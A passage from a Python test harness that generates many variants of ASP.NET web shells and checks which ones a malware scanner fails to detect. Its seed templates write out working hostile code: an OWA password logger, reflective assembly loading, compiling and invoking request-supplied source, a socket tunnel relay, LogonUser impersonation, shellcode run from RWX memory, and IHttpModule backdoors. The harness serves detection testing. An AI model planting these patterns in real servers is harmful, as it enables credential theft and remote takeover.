                                         "var a = Assembly.Load(raw);", 'a.CreateInstance("U").Equals(this);'),
            "qualified": with_members([_XOR_HELPER_CS],
                                      "System.Reflection.Assembly.Load(Dec(System.Convert.FromBase64String({v})))"
                                      '.CreateInstance("U");'),
        },
        vb={"helper-inline": with_members([_XOR_HELPER_VB],
                                          'Assembly.Load(Dec(Convert.FromBase64String({v}))).CreateInstance("U")')},
        imports=("System.Reflection",), lit='"AAAA"',
    ),
    Seed(
        "cred-logger", "X26 OWA logon credential logger (test_unseen26_hidden)", "form",
        cs={
            "appendalltext": body('File.AppendAllText(Server.MapPath("~/App_Data/l.txt"), {v} + ":" + '
                                  'Request.Form["password"] + "\\r\\n");'),
            "streamwriter": body('using (var w = new StreamWriter(Server.MapPath("~/App_Data/l.txt"), true)) '
                                 '{ w.WriteLine({v} + ":" + Request.Form["password"]); }'),
        },
        vb={"appendalltext": body('File.AppendAllText(Server.MapPath("~/App_Data/l.txt"), {v} & ":" & '
                                  'Request.Form("password") & vbCrLf)')},
        imports=("System.IO",), lit='"user"', markup=_LOGON_SCRIPT,
    ),
    Seed(
        "compile-named", "X33 SUPERNOVA: compile request source, call a named member (test_unseen33_products)",
        "querystring",
        cs={
            "initializer": body("var p = new CSharpCodeProvider();",
                                "var r = p.CompileAssemblyFromSource(new CompilerParameters { GenerateInMemory = true }, {v});",
                                'string t = Request.QueryString["t"], m = Request.QueryString["m"];',
                                "object o = r.CompiledAssembly.CreateInstance(t);",
                                "Response.Write(o.GetType().GetMethod(m).Invoke(o, null));"),
            "properties-createprovider": body(
                'CodeDomProvider p = CodeDomProvider.CreateProvider("CSharp");', "CompilerParameters c = new CompilerParameters();",
                "c.GenerateInMemory = true;", "CompilerResults r = p.CompileAssemblyFromSource(c, {v});",
                'string t = Request.QueryString["t"], m = Request.QueryString["m"];',
                "object o = r.CompiledAssembly.CreateInstance(t);",
                "Response.Write(o.GetType().GetMethod(m).Invoke(o, null));"),
            "qualified-gettype": body(
                "var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource("
                "new System.CodeDom.Compiler.CompilerParameters(), {v});",
                'Type t = r.CompiledAssembly.GetType(Request.QueryString["t"]);',
                'Response.Write(t.InvokeMember(Request.QueryString["m"], System.Reflection.BindingFlags.InvokeMethod, '
                "null, Activator.CreateInstance(t), null));"),
        },
        vb={"vbcodeprovider": body(
            "Dim p As New VBCodeProvider()",
            "Dim r As CompilerResults = p.CompileAssemblyFromSource(New CompilerParameters(), {v})",
            'Dim o As Object = r.CompiledAssembly.CreateInstance(Request.QueryString("t"))',
            'Response.Write(o.GetType().GetMethod(Request.QueryString("m")).Invoke(o, Nothing))')},
        imports=("System.CodeDom.Compiler", "Microsoft.CSharp", "Microsoft.VisualBasic"), lit='"class T {}"',
    ),
    Seed(
        "cert-relay", "X34 CertificateAuthority.Request relay (test_unseen34_ordinary)", "form",
        cs={
            "progid-dynamic": body('dynamic cr = Activator.CreateInstance(Type.GetTypeFromProgID("CertificateAuthority.Request"));',
                                   'int d = cr.Submit(0, {v}, "CertificateTemplate:User", Request.Form["ca"]);',
                                   "Response.Write(cr.GetCertificate(0));"),
            "typed-object-invokemember": body(
                'Type t = Type.GetTypeFromProgID("CertificateAuthority.Request");', "object cr = Activator.CreateInstance(t);",
                't.InvokeMember("Submit", BindingFlags.InvokeMethod, null, cr, new object[] { 0, {v}, "", Request.Form["ca"] });',
                'Response.Write(t.InvokeMember("GetCertificate", BindingFlags.InvokeMethod, null, cr, new object[] { 0 }));'),
        },
        vb={"createobject": body('Dim cr As Object = CreateObject("CertificateAuthority.Request")',
                                 'cr.Submit(0, {v}, "CertificateTemplate:User", Request.Form("ca"))',
                                 "Response.Write(cr.GetCertificate(0))")},
        js={"activex": body('var cr = new ActiveXObject("CertificateAuthority.Request");',
                            'cr.Submit(0, {v}, "CertificateTemplate:User", Request.Form["ca"]);',
                            "Response.Write(cr.GetCertificate(0));")},
        imports=("System.Reflection",), lit='"MIIB"',
    ),
    Seed(
        "kept-socket", "X36 Neo-reGeorg kept socket relay (test_unseen36_tunnels)", "inputstream",
        cs={
            "session-cast": body(_CONNECT_CS, 'Socket s = (Socket)Session["sock"];', "s.Send(Convert.FromBase64String({v}));",
                                 "byte[] buf = new byte[4096];", "int r = s.Receive(buf);",
                                 "Response.Write(Convert.ToBase64String(buf, 0, r));"),
            "application-as": body(_CONNECT_CS.replace("Session", "Application"), 'var s = Application["sock"] as Socket;',
                                   "byte[] b = Convert.FromBase64String({v});", "s.Send(b);", "byte[] buf = new byte[4096];",
                                   "int r = s.Receive(buf);", "Response.Write(Convert.ToBase64String(buf, 0, r));"),
            "qualified": body(_CONNECT_CS, 'System.Net.Sockets.Socket s = (System.Net.Sockets.Socket)Session["sock"];',
                              "s.Send(System.Convert.FromBase64String({v}));", "byte[] buf = new byte[4096];",
                              "int r = s.Receive(buf);", "Response.Write(System.Convert.ToBase64String(buf, 0, r));"),
            "tcpclient-stream": body(
                'if (Request.QueryString["c"] == "connect") { var n = new TcpClient(); n.Connect("127.0.0.1", 22); '
                'Session["sock"] = n; }', 'var t = (TcpClient)Session["sock"];', "byte[] b = Convert.FromBase64String({v});",
                "t.GetStream().Write(b, 0, b.Length);", "byte[] buf = new byte[4096];",
                "int r = t.GetStream().Read(buf, 0, buf.Length);", "Response.Write(Convert.ToBase64String(buf, 0, r));"),
        },
        vb={"session-cast": body(
            'If Request.QueryString("c") = "connect" Then', "Dim n As New Socket(AddressFamily.InterNetwork, "
            "SocketType.Stream, ProtocolType.Tcp)", 'n.Connect("127.0.0.1", 22)', 'Session("sock") = n', "End If",
            'Dim s As Socket = CType(Session("sock"), Socket)', "s.Send(Convert.FromBase64String({v}))",
            "Dim buf(4095) As Byte", "Dim r As Integer = s.Receive(buf)", "Response.Write(Convert.ToBase64String(buf, 0, r))")},
        imports=("System.Net.Sockets",), lit='"AAAA"',
    ),
    Seed(
        "typed-logon", "X40 LogonUser with typed account, impersonate, list a folder (test_unseen40_sample)", "form",
        cs={
            "getfiles": with_members([_LOGON_CS], "IntPtr h;", 'if (LogonUser({v}, ".", {v}, 9, 0, out h)) {',
                                     "using (new WindowsIdentity(h).Impersonate()) {",
                                     'foreach (string f in Directory.GetFiles({v})) Response.Write(f + "<br/>");', "} }"),
            "context-env": with_members([_LOGON_CS], "IntPtr h;", 'LogonUser({v}, ".", {v}, 2, 0, out h);',
                                        "WindowsImpersonationContext c = new WindowsIdentity(h).Impersonate();",
                                        "foreach (System.Collections.DictionaryEntry d in Environment.GetEnvironmentVariables()) "
                                        'Response.Write(d.Key + "=" + d.Value + "<br/>");', "c.Undo();"),
        },
        vb={"getfiles": with_members([_LOGON_VB], "Dim h As IntPtr", 'If LogonUser({v}, ".", {v}, 9, 0, h) Then',
                                     "Using c As WindowsImpersonationContext = New WindowsIdentity(h).Impersonate()",
                                     "For Each f As String In Directory.GetFiles({v})", 'Response.Write(f & "<br/>")',
                                     "Next", "End Using", "End If")},
        imports=("System.IO", "System.Runtime.InteropServices", "System.Security.Principal"), lit='"guest"',
    ),
    Seed(
        "native-delegate", "X41 COFF loader, X40 syscall stub, X19 runner: code called as a delegate", "inputstream",
        cs={
            "getdelegate": with_members([_VALLOC_CS], "byte[] c = Convert.FromBase64String({v});",
                                        "IntPtr p = VirtualAlloc(IntPtr.Zero, (uint)c.Length, 0x3000, 0x40);",
                                        "Marshal.Copy(c, 0, p, c.Length);",
                                        "Run f = (Run)Marshal.GetDelegateForFunctionPointer(p, typeof(Run));", "f();"),
            "generic-qualified": with_members(
                [_VALLOC_CS], "byte[] c = System.Convert.FromBase64String({v});",
                "IntPtr p = VirtualAlloc(IntPtr.Zero, (uint)c.Length, 0x3000, 0x40);",
                "System.Runtime.InteropServices.Marshal.Copy(c, 0, p, c.Length);",
                "System.Runtime.InteropServices.Marshal.GetDelegateForFunctionPointer<Run>(p)();"),
        },
        vb={"getdelegate": with_members([_VALLOC_VB], "Dim c As Byte() = Convert.FromBase64String({v})",
                                        "Dim p As IntPtr = VirtualAlloc(IntPtr.Zero, CUInt(c.Length), &H3000, &H40)",
                                        "Marshal.Copy(c, 0, p, c.Length)",
                                        "Dim f As Run = CType(Marshal.GetDelegateForFunctionPointer(p, GetType(Run)), Run)",
                                        "f()")},
        imports=("System.Runtime.InteropServices",), lit='"kJDD"', twin_quiet=False,
    ),
]  # fmt: skip

# --------------------------------------------------------------------------------------------
# Containers mutants.py does not render: code-behind files, a VB service, a JScript handler.

CONTAINERS = {
    "cs": ["script", "inline", "ashx", "asmx", "codefile", "src", "app_code-module"],
    "vb": ["script", "inline", "ashx", "asmx", "codefile", "src", "app_code-module"],
    "js": ["script", "inline", "ashx"],
}
_DIRECTIVE = {
    "cs": '<%@ Page Language="C#" %>',
    "vb": '<%@ Page Language="VB" %>',
    "js": '<%@ Page Language="JScript" %>',
}
_MARKUP = '<html><body><form runat="server"></form></body></html>'


def _in_handler(text: str, lang: str, ctx: str) -> str:
    """Page members written as a handler or service reaches them (``Response.`` -> ``ctx.Response.``, ...)."""
    flags = re.I if lang == "vb" else 0
    text = re.sub(
        r"(?<![\w.])(?:Page\.|Me\.Context\.|this\.Context\.|Context\.)?Request\b",
        f"{ctx}.Request",
        text,
        flags=flags,
    )
    for obj in ("Response", "Server", "Application"):
        text = re.sub(rf"(?<![\w.]){obj}\b(?=\s*[.\[(])", f"{ctx}.{obj}", text, flags=flags)
    return re.sub(r"(?<![\w.])Session\b(?=\s*[\[(])", f"{ctx}.Session", text, flags=flags)


def _cs_class(prog: Prog, header: str) -> str:
    using = "".join(f"using {i};\n" for i in ["System", "System.Web", "System.Web.UI", *prog.imports])
    members, stmts = "\n".join(prog.members), "\n".join(prog.body)
    return (f"{using}\n{header}\n{{\n{members}\nprotected void Page_Load(object sender, EventArgs e)\n"
            f"{{\n{stmts}\n}}\n}}\n")  # fmt: skip


def _vb_class(prog: Prog, header: str) -> str:
    using = "".join(f"Imports {i}\n" for i in ["System", "System.Web", "System.Web.UI", *prog.imports])
    members, stmts = "\n".join(prog.members), "\n".join(prog.body)
    return (f"{using}\n{header}\n    Inherits System.Web.UI.Page\n{members}\n"
            f"Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs) Handles Me.Load\n{stmts}\nEnd Sub\n"
            "End Class\n")  # fmt: skip


def _module(prog: Prog) -> str:
    """An ``IHttpModule`` class in ``App_Code`` (compiled at start-up) running the code on every request's
    ``BeginRequest`` (X26's module backdoors, X9's App_Code memory shell)."""
    lang = prog.lang
    members = "\n".join(_in_handler(m, lang, "HttpContext.Current") for m in prog.members)
    stmts = "\n".join(_in_handler(s, lang, "context") for s in prog.body)
    if lang == "cs":
        using = "".join(f"using {i};\n" for i in ["System", "System.Web", *prog.imports])
        return (f"{using}\npublic class M : IHttpModule\n{{\n{members}\n"
                "public void Init(HttpApplication app) { app.BeginRequest += (s, e) => Run(((HttpApplication)s).Context); }\n"
                f"void Run(HttpContext context)\n{{\n{stmts}\n}}\npublic void Dispose() {{ }}\n}}\n")  # fmt: skip
    using = "".join(f"Imports {i}\n" for i in ["System", "System.Web", *prog.imports])
    return (f"{using}\nPublic Class M\n    Implements IHttpModule\n{members}\n"
            "Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init\n"
            "    AddHandler app.BeginRequest, AddressOf OnBegin\nEnd Sub\n"
            "Private Sub OnBegin(ByVal sender As Object, ByVal e As EventArgs)\n"
            f"Dim context As HttpContext = CType(sender, HttpApplication).Context\n{stmts}\nEnd Sub\n"
            "Public Sub Dispose() Implements IHttpModule.Dispose\nEnd Sub\nEnd Class\n")  # fmt: skip


def render(prog: Prog, container: str, markup: str = "") -> tuple[tuple[str, str, str | None], ...]:
    """The files of one program in one container: (file name, text, why ASP.NET compiles it); ``markup`` goes
    into the page (a handler or service has none)."""
    lang = prog.lang
    ext = {"cs": "cs", "vb": "vb", "js": "js"}[lang]
    language = {"cs": "C#", "vb": "VB", "js": "JScript"}[lang]
    if container in ("codefile", "src"):
        attr = f'CodeFile="p.aspx.{ext}"' if container == "codefile" else f'Src="lib.{ext}"'
        page = f'<%@ Page Language="{language}" {attr} Inherits="P" %>\n{markup}{_MARKUP}\n'
        if lang == "cs":
            code = _cs_class(prog, "public partial class P : System.Web.UI.Page" if container == "codefile"
                             else "public class P : System.Web.UI.Page")  # fmt: skip
        else:
            code = _vb_class(prog, "Partial Class P" if container == "codefile" else "Public Class P")
        if container == "codefile":
            return (("p.aspx", page, None), (f"p.aspx.{ext}", code, None))
        return (("p.aspx", page, None), (f"lib.{ext}", code, content.NAMED_BY_PAGE))
    if container == "app_code-module":
        return (("App_Code/M." + ext, _module(prog), None),)
    if container in ("ashx", "asmx"):
        ctx = "context" if container == "ashx" else "HttpContext.Current"
        prog = Prog(lang, prog.imports, [_in_handler(m, lang, "HttpContext.Current") for m in prog.members],
                    [_in_handler(s, lang, ctx) for s in prog.body])  # fmt: skip
    if lang == "vb" and container == "asmx":
        imports = "".join(
            f"Imports {i}\n" for i in ["System", "System.Web", "System.Web.Services", *prog.imports]
        )
        members, stmts = "\n".join(prog.members), "\n".join(prog.body)
        return (("s.asmx", f'<%@ WebService Language="VB" Class="Svc" %>\n{imports}\nPublic Class Svc\n'
                 f"    Inherits WebService\n{members}\n<WebMethod()> _\nPublic Function Run() As String\n{stmts}\n"
                 'Return ""\nEnd Function\nEnd Class\n', None),)  # fmt: skip
    if lang == "js" and container == "ashx":
        members, stmts = "\n".join(prog.members), "\n".join(prog.body)
        return (("h.ashx", '<%@ WebHandler Language="JScript" Class="H" %>\nimport System;\nimport System.Web;\n\n'
                 f"class H implements IHttpHandler {{\n{members}\nfunction ProcessRequest(context : HttpContext) {{\n"
                 f"{stmts}\n}}\nfunction get IsReusable() : Boolean {{ return false; }}\n}}\n", None),)  # fmt: skip
    rend = {"cs": render_cs, "vb": render_vb, "js": render_js}[lang]
    ext_, text = rend(prog, container, _DIRECTIVE[lang])
    return ((f"p{ext_}", text + "\n" + markup if markup else text, None),)


# --------------------------------------------------------------------------------------------


#: The seeds' other request reads (a second key, the body relayed beside the varied value): literals in a twin.
_OTHER_READS = re.compile(r'Request\s*\.\s*(?:Form|QueryString|Headers|Params)\s*[\[(]\s*"[^"]*"\s*[\])]')
_BODY_READ = re.compile(r"Request\.BinaryRead\(Request\.ContentLength\)")


def _prog(seed: Seed, lang: str, spelling: Spelling, value: str) -> Prog:
    members, stmts = spelling(value)
    if value == seed.lit:  # the twin reads no request at all
        empty = "New Byte() {}" if lang == "vb" else "new byte[0]"
        stmts = [_BODY_READ.sub(empty, _OTHER_READS.sub('"example"', s)) for s in stmts]
    return Prog(lang, list(seed.imports), members, stmts)


def siblings(seeds: list[Seed]) -> Iterator[Sibling]:
    """Each seed's baseline and its siblings, one axis at a time in each language the seed compiles in."""
    for seed in seeds:
        langs = [(lang, sp) for lang, sp in (("cs", seed.cs), ("vb", seed.vb), ("js", seed.js)) if sp]
        for lang, spellings in langs:
            first = next(iter(spellings.values()))
            src = SOURCES[lang][seed.source]

            def one(axis: str, variant: str, source: str, spelling: Spelling, container: str,
                    lang: str = lang, seed: Seed = seed) -> Sibling:  # fmt: skip
                markup = seed.markup + _CONTROLS.get(source, "")
                return Sibling(seed.name, axis, f"{lang}:{variant}", seed.twin_quiet,
                               render(_prog(seed, lang, spelling, source), container, markup),
                               render(_prog(seed, lang, spelling, seed.lit), container, markup))  # fmt: skip

            yield one("baseline" if lang == "cs" else "language", "baseline", src, first, "script")
            for c in CONTAINERS[lang]:
                if c != "script":
                    yield one("container", c, src, first, c)
            for name, s in SOURCES[lang].items():
                if name == seed.source or (name == "files-name" and seed.source != "files-name"):
                    continue  # a posted file's name is a source for the seeds that take a file name only
                yield one("source", name, s, first, "script")
            for name, sp in list(spellings.items())[1:]:
                yield one("sink", name, src, sp, "script")


_PARAMS: content.ContentParams | None = None


def _init() -> None:
    global _PARAMS
    rs = build_ruleset([])
    _PARAMS = content.ContentParams(rs.serialized, 1024 * 1024, 5.0)


def examine(files: tuple[tuple[str, str, str | None], ...]) -> list[str]:
    """Every own hit (``check:rule-or-sink``) on one sibling's files, written to a temporary folder."""
    assert _PARAMS is not None
    folder = Path(tempfile.mkdtemp(prefix="siblings-"))
    out: list[str] = []
    try:
        for name, text, compiled in files:
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
            t = content.Target(str(path), str(path).lower(), str(path), path.name, path.stat().st_size, None)
            hits: list[dict[str, Any]] = content.examine(
                t, content.DEEP, _PARAMS, compiled=compiled
            ).data.get("hits", [])
            out += [f"{h['check']}:{h.get('rule') or h.get('sink') or h.get('name')}" for h in hits]
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return sorted(set(out))


def shape_only(hit: str) -> bool:
    """A behaviour sink that fires on the code's shape with no request input (``needs: none``): a twin it
    flags is flagged by design (a P/Invoke of WinExec, a type reached by name), not by a misread source."""
    check, _, sink = hit.partition(":")
    return check == "behaviour" and sink in {s.id for s in knowledge().sinks if s.needs in ("none", "whole")}


def _job(s: Sibling) -> tuple[list[str], list[str]]:
    return examine(s.files), examine(s.twin)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument(
        "--list", action="store_true", help="name every sibling found by nothing and every flagged twin"
    )
    ap.add_argument("--seeds", help="comma-separated seed names (default: all)")
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument(
        "--show", help="print the files of the first sibling whose 'seed axis variant' contains this"
    )
    ap.add_argument("--write", help="write every sibling found by nothing, and its twin, under this folder")
    ap.add_argument("--core", action="store_true", help="the Razor and ASP.NET Core axis (siblings_core.py) instead")
    ap.add_argument(
        "--core-sources-read", action="store_true", help="with --core: what if Core .cs sources were behaviour-analysed"
    )
    args = ap.parse_args()
    seeds = [s for s in SEEDS if not args.seeds or s.name in args.seeds.split(",")]
    if args.core:
        from siblings_core import CORE_SEEDS, core_siblings

        sibs = list(core_siblings([s.name for s in seeds], args.core_sources_read))
        seeds = [s for s in seeds if s.name in CORE_SEEDS]
    else:
        sibs = list(siblings(seeds))
    if args.show:
        s = next(s for s in sibs if args.show in f"{s.seed} {s.axis} {s.variant}")
        for name, text, _ in s.files:
            print(f"--- {name}\n{text}")
        return
    with ProcessPoolExecutor(args.jobs, initializer=_init) as pool:
        results = list(pool.map(_job, sibs, chunksize=4))
    # axis -> [siblings, found by nothing, found by own YARA, twins flagged, twins flagged by design]
    axes: dict[str, list[int]] = defaultdict(lambda: [0, 0, 0, 0, 0])
    containers: dict[str, list[int]] = defaultdict(lambda: [0, 0, 0, 0, 0])  # the same, per Core container
    missed: list[str] = []
    flagged: list[str] = []
    by_design: dict[tuple[str, str], int] = defaultdict(int)
    for s, (hits, twin_hits) in zip(sibs, results, strict=True):
        shape = bool(twin_hits) and (not s.twin_quiet or all(shape_only(h) for h in twin_hits))
        rows = [axes[s.axis]] + ([containers[s.variant.split("/")[0]]] if args.core else [])
        for row in rows:
            row[0] += 1
            row[1] += not hits
            row[2] += any(h.startswith("yara:") for h in hits)
            row[3] += bool(twin_hits) and not shape
            row[4] += shape
        if not hits:
            missed.append(f"{s.seed:18} {s.axis:10} {s.variant}")
            if args.write:
                for kind, files in (("sibling", s.files), ("twin", s.twin)):
                    folder = Path(args.write, s.seed, f"{s.axis}-{s.variant.replace(':', '-').replace('/', '-')}", kind)
                    folder.mkdir(parents=True, exist_ok=True)
                    for name, text, _ in files:
                        (folder / name).parent.mkdir(parents=True, exist_ok=True)
                        (folder / name).write_text(text, encoding="utf-8")
        if twin_hits and not shape:
            flagged.append(f"{s.seed:18} {s.axis:10} {s.variant}: {', '.join(twin_hits)}")
        if shape:
            by_design[(s.seed, ", ".join(twin_hits))] += 1
    print(f"{len(seeds)} seeds, {len(sibs)} siblings (each with a twin)\n")
    print("| axis | siblings | found by nothing | own YARA fired | twins flagged | twins flagged by design |")
    print("|---|---|---|---|---|---|")
    tot = [0] * 5
    names = ("core-container", "core-source") if args.core else ("baseline", "language", "container", "source", "sink")
    for axis in names:
        a = axes.get(axis, [0] * 5)
        print(f"| {axis} | " + " | ".join(map(str, a)) + " |")
        tot = [x + y for x, y in zip(tot, a, strict=True)]
    print("| all | " + " | ".join(map(str, tot)) + " |")
    if args.core:
        print("\n| container | siblings | found by nothing | own YARA fired | twins flagged | twins flagged by design |")
        print("|---|---|---|---|---|---|")
        for name, a in sorted(containers.items()):
            print(f"| {name} | " + " | ".join(map(str, a)) + " |")
    if args.list:
        print("\nfound by nothing:")
        print("\n".join(f"  {m}" for m in missed) or "  (none)")
        print("\ntwins flagged (by design left out: a shape sink, or a seed whose shape needs no request):")
        print("\n".join(f"  {f}" for f in flagged) or "  (none)")
        print("\ntwins flagged by design (seed: what fired, twins):")
        for (seed, what), n in sorted(by_design.items()):
            print(f"  {seed:18} {what}: {n}")


if __name__ == "__main__":
    main()
